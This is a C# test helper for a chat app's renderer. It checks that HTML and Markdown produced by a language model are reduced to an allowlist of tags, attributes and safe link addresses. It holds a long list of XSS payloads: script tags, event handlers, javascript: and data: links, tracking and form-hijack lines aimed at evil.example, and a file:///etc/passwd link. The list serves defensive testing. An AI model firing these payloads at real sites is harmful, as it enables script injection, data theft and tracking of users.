using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace Causerie.Tests;

/// <summary>What a model must not be able to do to the page, whatever it says.</summary>
internal static class Hostile
{
    // tag:attribute,attribute
    private static readonly Dictionary<string, string[]> Allowed = (
        "p:class em strong del br hr code h1 h2 h3 h4 h5 h6 ul ol:start li blockquote table tbody tr th:class td:class "
        + "div:class,tabindex pre:tabindex span:class button:type,data-do a:href,rel,target details:class,open summary")
        .Split(' ').Select(t => t.Split(':')).ToDictionary(t => t[0], t => t.Length > 1 ? t[1].Split(',') : []);

    private static readonly string[] Classes =
        ["plain", "code", "code-head", "table", "center", "right", "thought", "b", "c", "s", "n", "k"];

    /// <summary>Payloads that have run script somewhere, in HTML and in Markdown.</summary>
    public static IReadOnlyList<string> Payloads { get; } =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/track.png\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<form action=https://evil.example><input name=key><button>go</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a style=position:fixed;inset:0 href=https://evil.example>x</a>",
        "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "</div></article></main><script>alert(1)</script>",
        "</code></pre><script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](\u00a0javascript:alert(1))",
        "[x](//evil.example)",
        "[x](/page/c/1/delete)",
        "[x](\\\\evil.example)",
        "[x](https:evil.example)",
        "[x](https:\\\\evil.example)",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](https://a.example/\"onmouseover=alert(1)//)",
        "[x](https://a.example/' onmouseover='alert(1))",
        "[x](<https://a.example/\" onclick=\"alert(1)>)",
        "[x](https://a.example/ \"t\" onclick=alert(1))",
        "[x](https://a.example \"\\\"><script>alert(1)</script>\")",
        "[<img src=x onerror=alert(1)>](https://a.example)",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/track.png)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![\"onerror=\"alert(1)](x)",
        "![x][r]\n\n[r]: https://evil.example/track.png",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x]\n\n[x]: data:text/html,<script>alert(1)</script> \"t\"",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "<https://a.example/\"onclick=alert(1)>",
        "<a@b.example\"onclick=\"alert(1)>",
        "javascript:alert(1)",
        "https://a.example/\"onmouseover=\"alert(1)",
        "www.a.example/\"><script>alert(1)</script>",
        "```\"><script>alert(1)</script>\nx\n```",
        "```js\" onclick=\"alert(1)\nx\n```",
        "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
        "    </code></pre><script>alert(1)</script>",
        "`</code><script>alert(1)</script>`",
        "# <script>alert(1)</script> {onclick=alert(1)}",
        "text{onclick=alert(1) style=position:fixed}",
        "[x](https://a.example){onclick=alert(1)}",
        "::: onclick=alert(1)\nx\n:::",
        "$$\\href{javascript:alert(1)}{x}$$",
        "$\\unicode{<img src=x onerror=alert(1)>}$",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |",
        "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
        "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
        "1. <svg/onload=alert(1)>",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "*[HTML]: <script>alert(1)</script>\n\nHTML",
        "<think><script>alert(1)</script></think><img src=x onerror=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\u0000<script>alert(1)</script>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "\ufeff<script>alert(1)</script>",
        "<\u200bscript>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
        "\ud800<img src=x onerror=alert(1)>\udc00",
        "<img src=x onerror=alert(1)",
        "<div id=thread data-do=delete><button data-do=stop>x</button></div>",
        "<a name=conversation id=text>x</a><form id=composer>",
    ];

    /// <summary>Fails unless every tag, attribute and address is on the list.</summary>
    public static void AssertHarmless(string html)
    {
        var document = new HtmlParser().ParseDocument("<!doctype html><body><div id=\"prose\">" + html + "</div></body>");
        Assert.Empty(document.Head!.Children);
        // What breaks out of its place in the page would be beside it.
        var prose = Assert.Single(document.Body!.Children);
        Assert.Equal(["id"], prose.Attributes.Select(a => a.Name));
        Assert.DoesNotContain(document.Descendants<IComment>(), _ => true);
        foreach (var element in prose.QuerySelectorAll("*"))
        {
            Assert.True(Allowed.TryGetValue(element.LocalName, out string[]? attributes), $"<{element.LocalName}> in {html}");
            foreach (var attribute in element.Attributes)
                Assert.True(attributes!.Contains(attribute.Name), $"{attribute.Name} of <{element.LocalName}> in {html}");
            foreach (string name in element.ClassList)
                Assert.Contains(name, Classes);
            if (element.LocalName == "button")
                Assert.Equal("copy-code", element.GetAttribute("data-do"));
            if (element.LocalName != "a")
                continue;
            string href = element.GetAttribute("href")!;
            Assert.Matches("^(https?://|mailto:)[^\\s\\\\\\p{Cc}]+$", href);
            Assert.Equal("noopener noreferrer nofollow", element.GetAttribute("rel"));
            Assert.Equal("_blank", element.GetAttribute("target"));
        }
    }
}
